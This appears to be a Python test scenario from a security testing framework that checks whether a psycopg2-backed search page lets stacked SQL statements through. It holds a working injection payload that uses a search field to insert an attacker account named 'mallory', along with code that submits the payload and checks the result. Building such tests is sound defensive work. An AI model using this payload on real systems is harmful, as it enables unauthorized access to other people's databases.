"""F1: a second statement, behind a semicolon, gives the attacker an account."""

from backwatch.attack.clients.psycopg2 import Psycopg2
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage


class Stacked(SearchPage):
    """psycopg2 sends several statements at once: a page writes what its visitor searches for into one."""

    attack = "adds an account of its own through a second statement that a search field let in"
    injected = "x'; INSERT INTO accounts VALUES (9999, 'mallory', 'known') -- "
    runs = (Run(Psycopg2),)

    def work(self) -> object:
        """Search for ordinary names and for an account."""
        return [super().work(), self.exists("clerk 1")]

    def meet(self) -> object:
        """Search for the attacker's text and return whether the new account exists."""
        self.answer(self.injected)
        return self.exists("mallory")

    def exists(self, name: str) -> bool:
        """Return whether there is an account of that name."""
        return self.client.execute("SELECT count(*) FROM accounts WHERE name = %s", (name,)) == [["1"]]
